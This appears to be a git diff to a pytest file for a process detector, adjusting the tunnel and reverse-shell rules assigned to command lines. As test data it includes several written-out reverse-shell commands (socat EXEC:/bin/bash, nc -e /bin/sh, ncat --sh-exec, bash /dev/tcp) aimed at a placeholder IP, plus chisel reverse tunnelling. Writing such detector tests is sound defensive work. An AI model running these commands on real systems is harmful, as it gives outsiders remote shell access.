@@ -258,10 +258,16 @@ def test_ssh_by_argv0_only_and_local_forward(det: ProcessDetector) -> None:
 @pytest.mark.parametrize(
     ("args", "rule", "severity"),
     [
-        (("chisel", "client", "198.51.100.5:8000", "R:socks"), "tunnel.tool", Severity.HIGH),
-        (("cloudflared", "tunnel", "--url", "http://localhost:8000"), "tunnel.tool", Severity.HIGH),
+        (("chisel", "client", "198.51.100.5:8000", "R:socks"), "tunnel.chisel", Severity.HIGH),
+        (("chisel", "--version"), "tunnel.tool", Severity.HIGH),
+        (
+            ("cloudflared", "tunnel", "--url", "http://localhost:8000"),
+            "tunnel.cloudflared",
+            Severity.HIGH,
+        ),
         (("cloudflared", "access", "login"), "tunnel.tool", Severity.MEDIUM),
-        (("frpc", "-c", "frpc.toml"), "tunnel.tool", Severity.HIGH),
+        (("frpc", "-c", "frpc.toml"), "tunnel.frp", Severity.HIGH),
+        (("frpc", "-c", "/etc/tun/client.ini"), "tunnel.tool", Severity.HIGH),
         (
             ("socat", "TCP:198.51.100.5:4444", "EXEC:/bin/bash,pty,stderr"),
             "tunnel.reverse_shell",
@@ -275,7 +281,11 @@ def test_ssh_by_argv0_only_and_local_forward(det: ProcessDetector) -> None:
         ),
         (("socat", "TCP-LISTEN:8080,fork", "TCP:localhost:80"), "tunnel.socat_relay", Severity.LOW),
         (("nc", "-e", "/bin/sh", "198.51.100.5", "4444"), "tunnel.reverse_shell", Severity.HIGH),
-        (("ncat", "--sh-exec", "sh", "198.51.100.5", "4444"), "tunnel.reverse_shell", Severity.HIGH),
+        (
+            ("ncat", "--sh-exec", "sh", "198.51.100.5", "4444"),
+            "tunnel.reverse_shell",
+            Severity.HIGH,
+        ),
         (
             ("bash", "-c", "bash -i >& /dev/tcp/198.51.100.5/4444 0>&1"),
             "tunnel.reverse_shell",
